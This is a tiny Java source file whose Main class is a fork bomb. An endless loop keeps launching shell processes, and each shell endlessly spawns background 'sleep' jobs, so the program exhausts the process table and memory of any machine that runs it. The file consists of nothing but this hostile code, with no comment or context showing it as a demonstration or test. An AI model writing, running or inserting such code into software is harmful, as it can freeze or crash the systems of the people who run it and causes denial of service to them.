public class Main {
    public static void main(String[] arguments) throws Exception {
        for (;;)
            new ProcessBuilder("/bin/sh", "-c", "while :; do sleep 100 & done").start();
    }
}
